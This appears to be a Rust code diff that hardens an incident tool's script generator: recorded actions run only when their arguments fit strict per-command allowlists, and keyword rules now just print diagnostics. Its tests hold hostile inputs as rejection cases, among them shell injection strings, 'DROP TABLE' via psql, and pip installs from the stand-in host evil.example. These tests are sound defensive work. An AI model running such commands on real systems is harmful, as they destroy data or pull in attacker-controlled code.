@@ -14,56 +14,244 @@ use std::path::{Path, PathBuf};
 use serde::Serialize;
 
 use crate::kb::{KbError, write_atomic};
+use crate::model::Status;
 use crate::pattern::Pattern;
 
 /// The line that marks a script as tool-owned; without it a file is never overwritten.
 pub(crate) const GENERATED_MARK: &str = "# incident:generated";
 
-/// Commands a recorded action may start with to become an executable step.
-const KNOWN_COMMANDS: &[&str] = &[
-    "systemctl",
-    "service",
-    "docker",
-    "kubectl",
-    "pip",
-    "pip3",
-    "chmod",
-    "chown",
-    "mkdir",
-    "kill",
-    "pkill",
-    "supervisorctl",
-    "journalctl",
-    "redis-cli",
-    "psql",
-    "rabbitmqctl",
-    "python",
-    "python3",
-    "git",
-    "ss",
-    "df",
-    "free",
-    "ps",
-    "ls",
+/// How the arguments of a known command may look. A recorded action becomes a runnable
+/// step only when every word fits its command's shape; anything else stays an instruction.
+/// Options are parsed the way the command parses them (short clusters with glued values,
+/// `--long=value`), and strict commands accept only the options listed, exactly, so
+/// neither a glued `-cCODE` nor an abbreviated `--ind=URL` slips through.
+struct Shape {
+    cmd: &'static str,
+    /// The first non-option word must be one of these (`None`: any).
+    subcommands: Option<&'static [&'static str]>,
+    /// Options may come before the subcommand (global options such as `git -c` run code).
+    globals: bool,
+    /// The only options accepted (`None`: any option; the command has none that run code,
+    /// fetch from elsewhere or change what runs).
+    options: Option<&'static [Opt]>,
+    /// A check of every non-option word after the command.
+    positional: fn(&str) -> bool,
+}
+
+/// An accepted option: `-x` / `--long`, and whether it takes a value.
+struct Opt(&'static str, bool);
+
+fn any_word(_: &str) -> bool {
+    true
+}
+
+/// `requests`, `requests==2.31.0`, `pydantic[email]`: a package by name, never a URL,
+/// path or VCS reference.
+fn package_spec(w: &str) -> bool {
+    w.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && w.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_.[],=".contains(c))
+}
+
+/// `requirements.txt`, `deploy/requirements-prod.txt`.
+fn requirements_file(w: &str) -> bool {
+    w.ends_with(".txt") && !w.contains(':')
+}
+
+const PIP_OPTIONS: &[Opt] = &[
+    Opt("-r", true),
+    Opt("--requirement", true),
+    Opt("-U", false),
+    Opt("--upgrade", false),
+    Opt("--user", false),
+    Opt("--no-cache-dir", false),
+    Opt("--force-reinstall", false),
+    Opt("--no-deps", false),
+    Opt("-q", false),
+    Opt("--quiet", false),
+    Opt("-y", false),
+    Opt("--yes", false),
 ];
 
-/// Options that run code given on the command line; such an action stays an instruction.
-const CODE_OPTIONS: &[(&str, &[&str])] = &[
-    ("python", &["-c"]),
-    ("python3", &["-c"]),
-    ("psql", &["-c", "--command", "-f", "--file"]),
-    ("redis-cli", &["eval", "EVAL", "--eval"]),
-    (
-        "git",
-        &[
-            "-c",
-            "--config-env",
-            "--exec-path",
-            "--upload-pack",
-            "--receive-pack",
-        ],
-    ),
+#[rustfmt::skip]
+const SHAPES: &[Shape] = &[
+    Shape { cmd: "systemctl", subcommands: Some(&["restart", "start", "stop", "status", "reload", "reset-failed", "is-active", "is-failed", "show", "list-units"]), globals: true, options: None, positional: any_word },
+    Shape { cmd: "service", subcommands: None, globals: false, options: Some(&[]), positional: any_word },
+    Shape { cmd: "supervisorctl", subcommands: Some(&["restart", "start", "stop", "status", "reread", "update", "tail"]), globals: false, options: None, positional: any_word },
+    Shape { cmd: "docker", subcommands: Some(&["restart", "start", "stop", "ps", "logs", "inspect", "stats", "top"]), globals: false, options: None, positional: any_word },
+    Shape { cmd: "kubectl", subcommands: Some(&["get", "describe", "logs", "rollout", "scale", "delete", "top", "cordon", "uncordon"]), globals: false, options: None, positional: any_word },
+    Shape { cmd: "rabbitmqctl", subcommands: Some(&["status", "cluster_status", "list_queues", "list_connections", "list_channels", "list_consumers", "list_exchanges", "start_app", "stop_app", "await_startup", "ping"]), globals: false, options: None, positional: any_word },
+    Shape { cmd: "pip", subcommands: Some(&["install", "uninstall", "check", "list", "show", "freeze"]), globals: false, options: Some(PIP_OPTIONS), positional: package_or_requirements },
+    Shape { cmd: "pip3", subcommands: Some(&["install", "uninstall", "check", "list", "show", "freeze"]), globals: false, options: Some(PIP_OPTIONS), positional: package_or_requirements },
+    Shape { cmd: "psql", subcommands: None, globals: true, options: Some(&[Opt("-h", true), Opt("-p", true), Opt("-U", true), Opt("-d", true), Opt("--host", true), Opt("--port", true), Opt("--username", true), Opt("--dbname", true), Opt("-w", false), Opt("--no-password", false), Opt("-l", false), Opt("--list", false)]), positional: any_word },
+    Shape { cmd: "redis-cli", subcommands: None, globals: true, options: Some(&[Opt("-h", true), Opt("-p", true), Opt("-n", true), Opt("--no-auth-warning", false)]), positional: redis_word },
+    Shape { cmd: "git", subcommands: Some(&["status", "pull", "fetch", "checkout", "log", "diff", "stash", "revert", "show"]), globals: false, options: Some(&[Opt("--ff-only", false), Opt("--rebase", false), Opt("--no-rebase", false), Opt("--all", false), Opt("--prune", false), Opt("--stat", false), Opt("--oneline", false), Opt("-b", true), Opt("-n", true), Opt("-q", false), Opt("--quiet", false)]), positional: any_word },
+    Shape { cmd: "python", subcommands: None, globals: true, options: Some(PYTHON_OPTIONS), positional: any_word },
+    Shape { cmd: "python3", subcommands: None, globals: true, options: Some(PYTHON_OPTIONS), positional: any_word },
+    Shape { cmd: "journalctl", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "chmod", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "chown", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "mkdir", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "kill", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "pkill", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "ss", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "df", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "free", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "ps", subcommands: None, globals: true, options: None, positional: any_word },
+    Shape { cmd: "ls", subcommands: None, globals: true, options: None, positional: any_word },
 ];
+
+/// Python runs a script file (`python3 manage.py migrate`) or pip (`-m pip …`, checked as
+/// pip); `-c`, other modules and stdin are refused.
+const PYTHON_OPTIONS: &[Opt] = &[
+    Opt("-u", false),
+    Opt("-B", false),
+    Opt("-E", false),
+    Opt("-I", false),
+    Opt("-s", false),
+    Opt("-O", false),
+    Opt("-m", true),
+];
+
+fn package_or_requirements(w: &str) -> bool {
+    package_spec(w) || requirements_file(w)
+}
+
+/// Redis commands that run scripts, load modules or reconfigure the server are refused.
+fn redis_word(w: &str) -> bool {
+    let lower = w.to_ascii_lowercase();
+    !matches!(
+        lower.as_str(),
+        "eval"
+            | "evalsha"
+            | "eval_ro"
+            | "evalsha_ro"
+            | "script"
+            | "function"
+            | "fcall"
+            | "fcall_ro"
+            | "module"
+            | "config"
+            | "debug"
+            | "shutdown"
+            | "replicaof"
+            | "slaveof"
+            | "migrate"
+            | "restore"
+    )
+}
+
+/// Checks `args` (the words after the command) against `shape`.
+fn fits(shape: &Shape, args: &[String]) -> bool {
+    let find = |name: &str| shape.options.map(|opts| opts.iter().find(|o| o.0 == name));
+    let mut sub_seen = shape.subcommands.is_none();
+    let mut only_positional = false;
+    let mut i = 0;
+    while i < args.len() {
+        let w = args[i].as_str();
+        i += 1;
+        let is_option = !only_positional && w.starts_with('-') && w.len() > 1;
+        if w == "--" && !only_positional {
+            // Only git's `checkout -- <path>` needs it; a path after it is a word.
+            if shape.cmd != "git" || !sub_seen {
+                return false;
+            }
+            only_positional = true;
+            continue;
+        }
+        if !is_option {
+            if !sub_seen {
+                match shape.subcommands {
+                    Some(subs) if subs.contains(&w) => sub_seen = true,
+                    _ => return false,
+                }
+            } else if !(shape.positional)(w) {
+                return false;
+            }
+            continue;
+        }
+        if !sub_seen && !shape.globals {
+            return false;
+        }
+        if let Some(long) = w.strip_prefix("--") {
+            let (name, glued) = match long.split_once('=') {
+                Some((n, v)) => (n, Some(v)),
+                None => (long, None),
+            };
+            match find(&format!("--{name}")) {
+                None => {}
+                Some(None) => return false,
+                Some(Some(Opt(_, true))) => {
+                    let value = match glued {
+                        Some(v) => v,
+                        None => match args.get(i) {
+                            Some(v) => {
+                                i += 1;
+                                v.as_str()
+                            }
+                            None => return false,
+                        },
+                    };
+                    if !value_ok(shape, &format!("--{name}"), value) {
+                        return false;
+                    }
+                }
+                Some(Some(Opt(_, false))) if glued.is_some() => return false,
+                Some(Some(_)) => {}
+            }
+            continue;
+        }
+        // A short cluster: `-xvf`, `-Upostgres`, `-cCODE`.
+        let cluster: Vec<char> = w[1..].chars().collect();
+        for (j, &c) in cluster.iter().enumerate() {
+            match find(&format!("-{c}")) {
+                None => {}
+                Some(None) => return false,
+                Some(Some(Opt(name, true))) => {
+                    let rest: String = cluster[j + 1..].iter().collect();
+                    let value = if rest.is_empty() {
+                        match args.get(i) {
+                            Some(v) => {
+                                i += 1;
+                                v.clone()
+                            }
+                            None => return false,
+                        }
+                    } else {
+                        rest
+                    };
+                    if shape.cmd.starts_with("python") && *name == "-m" {
+                        return value == "pip" && pip_fits(&args[i..]);
+                    }
+                    if !value_ok(shape, name, &value) {
+                        return false;
+                    }
+                    break;
+                }
+                Some(Some(Opt(_, false))) => {}
+            }
+        }
+    }
+    // A subcommand-driven command needs its subcommand; python needs a script.
+    let script_given = args
+        .iter()
+        .any(|a| !a.starts_with('-') && a.ends_with(".py"));
+    sub_seen && (script_given || !shape.cmd.starts_with("python"))
+}
+
+fn pip_fits(args: &[String]) -> bool {
+    SHAPES
+        .iter()
+        .find(|s| s.cmd == "pip")
+        .is_some_and(|pip| fits(pip, args))
+}
+
+fn value_ok(shape: &Shape, option: &str, value: &str) -> bool {
+    match (shape.cmd, option) {
+        ("pip" | "pip3", "-r" | "--requirement") => requirements_file(value),
+        _ => !value.is_empty(),
+    }
+}
 
 /// When a pattern deserves a script.
 #[derive(Clone, Debug, PartialEq, Serialize)]
@@ -89,7 +277,7 @@ impl Default for AutofixOptions {
 pub enum StepSource {
     /// A recorded action, used by `used_in` of the pattern's resolved incidents.
     Recorded { action: String, used_in: u64 },
-    /// Added because the pattern's text mentions `keyword`.
+    /// Suggested (printed, never run) because the pattern's text mentions `keyword`.
     KeywordRule { keyword: &'static str },
 }
 
@@ -105,18 +293,6 @@ pub enum Step {
     },
     /// Printed for a person to carry out.
     Instruction { text: String, source: StepSource },
-}
-
-impl Step {
-    /// The keyword of a step added by a keyword rule.
-    fn keyword(&self) -> Option<&'static str> {
-        match self {
-            Step::Command { source, .. } | Step::Instruction { source, .. } => match source {
-                StepSource::KeywordRule { keyword } => Some(keyword),
-                StepSource::Recorded { .. } => None,
-            },
-        }
-    }
 }
 
 /// A generated script.
@@ -150,6 +326,18 @@ pub struct ScriptPlan {
     pub status: ScriptStatus,
 }
 
+/// Incidents of the pattern that are resolved or closed, whether or not their resolution
+/// time is known (`Pattern::resolved` counts only those with a known time).
+pub(crate) fn resolved_total(p: &Pattern) -> u64 {
+    let by_status: u64 = p
+        .statuses
+        .iter()
+        .filter(|s| matches!(s.value, Status::Resolved | Status::Closed))
+        .map(|s| s.count)
+        .sum();
+    by_status.max(p.resolved)
+}
+
 /// Pattern ids become file names and marker text, so only a plain shape is accepted.
 pub(crate) fn valid_pattern_id(id: &str) -> bool {
     (1..=64).contains(&id.len())
@@ -160,10 +348,10 @@ pub(crate) fn valid_pattern_id(id: &str) -> bool {
 
 /// The script for `p`, if its resolved incidents agree on a fix that has a command in it.
 pub fn candidate(p: &Pattern, opts: &AutofixOptions) -> Option<Script> {
-    if !valid_pattern_id(&p.id) || p.resolved < opts.min_resolved.max(1) {
+    let resolved = resolved_total(p);
+    if !valid_pattern_id(&p.id) || resolved < opts.min_resolved.max(1) {
         return None;
     }
-    let resolved = p.resolved;
     let majority = |n: u64| n.saturating_mul(2) > resolved;
     let (actions, evidence): (Vec<(String, u64)>, String) = match p.action_sets.first() {
         Some(set) if majority(set.count) && !set.value.is_empty() => (
@@ -213,34 +401,16 @@ pub fn candidate(p: &Pattern, opts: &AutofixOptions) -> Option<Script> {
             }),
         }
     }
-    let restarts = steps.iter().any(|s| match s {
-        Step::Command { argv, .. } => argv.iter().any(|w| w == "restart"),
-        Step::Instruction { .. } => false,
-    });
-    for group in keyword_steps(p) {
-        let commands: Vec<&Vec<String>> = group
-            .iter()
-            .filter_map(|s| match s {
-                Step::Command { argv, .. } => Some(argv),
-                Step::Instruction { .. } => None,
-            })
-            .collect();
-        // A rule adds nothing when its commands are already steps, or (for the worker
-        // note) when a recorded step already restarts something.
-        let redundant = if commands.is_empty() {
-            restarts && group.iter().any(|s| s.keyword() == Some("worker"))
-        } else {
-            commands.iter().all(|argv| seen.contains(*argv))
-        };
-        if redundant {
+    // Keyword knowledge adds read-only diagnostics, printed as suggestions and never run.
+    for step in keyword_steps(p) {
+        let Step::Instruction { text, .. } = &step else {
             continue;
-        }
-        for step in group {
-            if let Step::Command { argv, .. } = &step
-                && !seen.insert(argv.clone())
-            {
-                continue;
-            }
+        };
+        let duplicate = steps.iter().any(|s| match s {
+            Step::Command { argv, .. } => argv.join(" ") == *text,
+            Step::Instruction { text: t, .. } => t == text,
+        });
+        if !duplicate {
             steps.push(step);
         }
     }
@@ -321,18 +491,15 @@ pub fn write_scripts(
 }
 
 /// The words of `action` if it is a literal command that is safe to run word by word:
-/// a whole action or a single backtick span that starts with a known command and holds
-/// nothing a shell would treat specially.
+/// the whole action (or the whole action in one backtick span) starts with a known
+/// command, holds nothing a shell would treat specially, and its arguments fit the
+/// command's [`Shape`]. A command inside prose stays prose: a script runs recorded actions
+/// exactly as recorded, nothing cut out of them.
 pub(crate) fn command_words(action: &str) -> Option<Vec<String>> {
     let trimmed = action.trim();
-    let candidate = match trimmed.matches('`').count() {
-        0 => trimmed,
-        2 => {
-            let (_, rest) = trimmed.split_once('`')?;
-            let (inner, _) = rest.split_once('`')?;
-            inner.trim()
-        }
-        _ => return None,
+    let candidate = match trimmed.strip_prefix('`').and_then(|t| t.strip_suffix('`')) {
+        Some(inner) => inner.trim(),
+        None => trimmed,
     };
     let allowed = |c: char| c.is_alphanumeric() || " _./:=,@%+-'\"".contains(c);
     if candidate.is_empty() || !candidate.chars().all(allowed) {
@@ -340,27 +507,16 @@ pub(crate) fn command_words(action: &str) -> Option<Vec<String>> {
     }
     let words = split_words(candidate)?;
     let first = words.first()?;
-    if !KNOWN_COMMANDS.contains(&first.as_str()) {
-        return None;
-    }
+    let shape = SHAPES.iter().find(|s| s.cmd == first)?;
     // `/`, `//`, `.`, `..`: a recursive chmod or chown on these is never a recorded fix.
+    // A URL fetches from elsewhere.
     if words
         .iter()
-        .any(|w| w.chars().all(|c| c == '/' || c == '.'))
+        .any(|w| w.chars().all(|c| c == '/' || c == '.') || w.contains("://"))
     {
         return None;
     }
-    if let Some((_, denied)) = CODE_OPTIONS.iter().find(|(cmd, _)| cmd == first) {
-        let runs_code = words[1..].iter().any(|w| {
-            denied
-                .iter()
-                .any(|d| w == d || w.starts_with(&format!("{d}=")))
-        });
-        if runs_code {
-            return None;
-        }
-    }
-    Some(words)
+    fits(shape, &words[1..]).then_some(words)
 }
 
 /// Splits on spaces with single and double quotes grouping (the caller has already
@@ -399,8 +555,9 @@ fn split_words(s: &str) -> Option<Vec<String>> {
     Some(words)
 }
 
-/// Fixed steps chosen by keywords in the pattern's own text (never built from it).
-fn keyword_steps(p: &Pattern) -> Vec<Vec<Step>> {
+/// Read-only diagnostics suggested by keywords in the pattern's own text (never built
+/// from it). They are only ever printed: a script runs nothing that was not recorded.
+fn keyword_steps(p: &Pattern) -> Vec<Step> {
     let mut text = format!("{} {}", p.template, p.name);
     for c in &p.components {
         text.push(' ');
@@ -408,54 +565,43 @@ fn keyword_steps(p: &Pattern) -> Vec<Vec<Step>> {
     }
     let text = text.to_lowercase();
     let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
-    let cmd = |keyword: &'static str, check: bool, argv: &[&str]| Step::Command {
-        argv: argv.iter().map(|s| (*s).to_string()).collect(),
-        check,
-        source: StepSource::KeywordRule { keyword },
+    let mut out = Vec::new();
+    let mut suggest = |keyword: &'static str, diagnostics: &[&str]| {
+        for d in diagnostics {
+            out.push(Step::Instruction {
+                text: (*d).to_string(),
+                source: StepSource::KeywordRule { keyword },
+            });
+        }
     };
-    let note = |keyword: &'static str, text: &str| Step::Instruction {
-        text: text.to_string(),
-        source: StepSource::KeywordRule { keyword },
-    };
-
-    let mut groups = Vec::new();
     if has(&["rabbitmq", "amqp"]) {
-        groups.push(vec![cmd(
+        suggest(
             "rabbitmq",
-            false,
-            &["systemctl", "restart", "rabbitmq-server"],
-        )]);
-        groups.push(vec![cmd("rabbitmq", true, &["rabbitmqctl", "list_queues"])]);
+            &[
+                "systemctl status rabbitmq-server",
+                "rabbitmqctl list_queues",
+            ],
+        );
     }
     if has(&["connection", "connect", "refused", "unreachable"]) {
-        groups.push(vec![cmd("connection", true, &["ss", "-tlnp"])]);
+        suggest("connection", &["ss -tlnp"]);
     }
     if has(&["modulenotfounderror", "module not found", "no module named"]) {
-        groups.push(vec![
-            note(
-                "module not found",
-                "Run the next step from the application directory (where requirements.txt is).",
-            ),
-            cmd(
-                "module not found",
-                false,
-                &["pip", "install", "-r", "requirements.txt"],
-            ),
-        ]);
+        suggest("module not found", &["pip check"]);
     }
     if has(&["permission", "eacces", "not permitted"]) {
-        groups.push(vec![note(
-            "permission",
-            "Check the owner and mode of the path named in the error and fix them (chown/chmod).",
-        )]);
+        suggest("permission", &["ls -l <the path named in the error>"]);
     }
     if has(&["worker"]) {
-        groups.push(vec![note(
+        suggest(
             "worker",
-            "Restart the worker processes (e.g. supervisorctl restart <worker> or systemctl restart <worker>) and confirm they stay up.",
-        )]);
+            &[
+                "systemctl status <worker>",
+                "journalctl -u <worker> -n 100 --no-pager",
+            ],
+        );
     }
-    groups
+    out
 }
 
 fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
@@ -465,7 +611,19 @@ fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
     let uses_run = steps
         .iter()
         .any(|s| matches!(s, Step::Command { check: false, .. }));
-    let uses_manual = steps.iter().any(|s| matches!(s, Step::Instruction { .. }));
+    let is_suggestion = |s: &Step| {
+        matches!(
+            s,
+            Step::Instruction {
+                source: StepSource::KeywordRule { .. },
+                ..
+            }
+        )
+    };
+    let uses_manual = steps
+        .iter()
+        .any(|s| matches!(s, Step::Instruction { .. }) && !is_suggestion(s));
+    let uses_suggest = steps.iter().any(is_suggestion);
 
     let mut out = String::new();
     out.push_str("#!/usr/bin/env bash\n");
@@ -484,13 +642,15 @@ fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
     let _ = writeln!(
         out,
         "# Incidents: {} ({} resolved, {} recurred after an earlier resolution).",
-        p.count, p.resolved, p.recurrences
+        p.count,
+        resolved_total(p),
+        p.recurrences
     );
     let _ = writeln!(out, "# Evidence: {evidence}");
     out.push_str(concat!(
         "#\n",
-        "# Review every step before running with --apply. Commands are recorded actions,\n",
-        "# quoted word by word; anything else is printed as a manual step.\n",
+        "# Review every step before running with --apply. Only recorded actions run, quoted\n",
+        "# word by word; other recorded steps and keyword suggestions are only printed.\n",
         "# Usage: bash <this file> [--dry-run | --apply]   (default: dry run, runs nothing)\n",
         "set -euo pipefail\n",
         "\n",
@@ -539,6 +699,14 @@ fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
             "\n",
         ));
     }
+    if uses_suggest {
+        out.push_str(concat!(
+            "suggest() {\n",
+            "  printf 'suggested diagnostic (read-only, never run by this script): %s\\n' \"$1\"\n",
+            "}\n",
+            "\n",
+        ));
+    }
     out.push_str(concat!(
         "if [ \"$apply\" -eq 0 ]; then\n",
         "  printf 'dry run: printing the steps only; pass --apply to run the commands\\n'\n",
@@ -563,16 +731,23 @@ fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
                 } else {
                     ""
                 };
-                (source, format!("{directive}manual {}", sq(text)))
+                let verb = if matches!(source, StepSource::KeywordRule { .. }) {
+                    "suggest"
+                } else {
+                    "manual"
+                };
+                (source, format!("{directive}{verb} {}", sq(text)))
             }
         };
         let why = match source {
             StepSource::Recorded { action, used_in } => format!(
                 "recorded action (used in {used_in} of {} resolved incidents): {}",
-                p.resolved,
+                resolved_total(p),
                 comment(action)
             ),
-            StepSource::KeywordRule { keyword } => format!("added by keyword rule: {keyword}"),
+            StepSource::KeywordRule { keyword } => {
+                format!("suggested by keyword rule: {keyword} (printed only)")
+            }
         };
         let _ = write!(out, "\n# Step {}: {why}\n{line}\n", i + 1);
     }
@@ -762,11 +937,20 @@ mod tests {
                 "deploy/api".into()
             ])
         );
-        assert_eq!(
-            ok("Ran `supervisorctl restart all` on the host"),
-            Some(vec!["supervisorctl".into(), "restart".into(), "all".into()])
-        );
         assert_eq!(ok("mkdir 'a b'"), Some(vec!["mkdir".into(), "a b".into()]));
+        for good in [
+            "pip install -r requirements.txt",
+            "pip3 install --upgrade requests==2.31.0",
+            "python3 -m pip install -r requirements.txt",
+            "python3 manage.py migrate",
+            "psql -U postgres -d app",
+            "git checkout -- config/settings.yaml",
+            "redis-cli -h 10.0.0.2 ping",
+            "journalctl --vacuum-size=500M",
+            "chmod 644 /var/log/app/worker.log",
+        ] {
+            assert!(ok(good).is_some(), "{good:?} is a plain recorded command");
+        }
         for bad in [
             "`$(touch PWNED)`",
             "echo hi; touch PWNED",
@@ -786,6 +970,39 @@ mod tests {
             "touch PWNED",
             "ls *.log",
             "ls ~/x",
+            // A command inside prose is not the recorded action.
+            "Ran `supervisorctl restart all` on the host",
+            // Code given on the command line, in every option form.
+            "psql '-cDROP TABLE users'",
+            "psql -c 'DROP TABLE users'",
+            "psql --command='DROP TABLE users'",
+            "psql --comm='DROP TABLE users'",
+            "psql -Xc 'DROP TABLE users'",
+            "psql -f drop.sql",
+            "python3 '-cimport this'",
+            "python3 -Ic 'import this'",
+            "python3 -c 'import this'",
+            "python3 -m http.server",
+            "python3 -mhttp.server",
+            "python3",
+            "git -ccore.fsmonitor=x status",
+            "git --exec-path=/tmp status",
+            "git pull --upload-pack=x origin",
+            "redis-cli EVAL 'return 1' 0",
+            "rabbitmqctl eval 'halt().'",
+            "docker run alpine",
+            "docker -H tcp://x ps",
+            "kubectl exec pod -- sh",
+            // Installing from somewhere else.
+            "pip install --index-url=http://evil.example/simple requests",
+            "pip install --index-url http://evil.example/simple requests",
+            "pip install -i http://evil.example/simple requests",
+            "pip install --ind=http://evil.example/simple requests",
+            "pip install --extra-index-url=http://evil.example/simple requests",
+            "pip install git+https://evil.example/x.git",
+            "pip install ./local_pkg",
+            "pip install -r http://evil.example/req.txt",
+            "python3 -m pip install --index-url=http://evil.example/simple x",
         ] {
             assert_eq!(ok(bad), None, "{bad:?} must not become a command");
         }
@@ -820,34 +1037,50 @@ mod tests {
         assert!(candidate(&pattern("../evil", "x", &["mkdir y"], 3), &opts).is_none());
     }
 
+    /// Regression: a keyword rule once added `run systemctl restart rabbitmq-server` to a
+    /// WorkerCrashError script because a component's name contained "rabbitmq".
     #[test]
-    fn keyword_rules_are_marked() {
-        let p = pattern(
+    fn keyword_rules_only_suggest_and_never_run() {
+        let mut p = pattern(
             "P0000abcd",
-            "Connection refused to RabbitMQ at <*>",
-            &["systemctl restart rabbitmq-server", "キューを確認"],
+            "WorkerCrashError in <*> — ワーカープロセスが異常終了しました",
+            &["systemctl restart pm-worker", "キューを確認"],
             4,
         );
+        p.components = vec![counted("libs/rabbitmq_client.py".into(), 4)];
         let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
-        assert!(s.content.contains("# Step 1: recorded action (used in 4 of 4 resolved incidents): systemctl restart rabbitmq-server\nrun systemctl restart rabbitmq-server\n"), "{}", s.content);
+        assert!(s.content.contains("# Step 1: recorded action (used in 4 of 4 resolved incidents): systemctl restart pm-worker\nrun systemctl restart pm-worker\n"), "{}", s.content);
         assert!(s.content.contains("manual 'キューを確認'"));
-        assert_eq!(
-            s.content
-                .matches("run systemctl restart rabbitmq-server")
-                .count(),
-            1
-        );
         assert!(
             s.content.contains(
-                "# Step 3: added by keyword rule: rabbitmq\ncheck rabbitmqctl list_queues\n"
+                "# Step 3: suggested by keyword rule: rabbitmq (printed only)\nsuggest 'systemctl status rabbitmq-server'\n"
             ),
             "{}",
             s.content
         );
-        assert!(
-            s.content
-                .contains("added by keyword rule: connection\ncheck ss -tlnp")
+        let runs: Vec<&str> = s
+            .content
+            .lines()
+            .filter_map(|l| l.strip_prefix("run "))
+            .collect();
+        assert_eq!(runs, ["systemctl restart pm-worker"]);
+        assert!(!s.content.lines().any(|l| l.starts_with("check ")));
+        for step in &s.steps {
+            if let Step::Command { source, .. } = step {
+                assert!(matches!(source, StepSource::Recorded { .. }), "{step:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn keywords_alone_make_no_script() {
+        let p = pattern(
+            "P0000abce",
+            "Connection refused to RabbitMQ at <*>",
+            &["キューを確認"],
+            4,
         );
+        assert!(candidate(&p, &AutofixOptions::default()).is_none());
     }
 
     #[test]
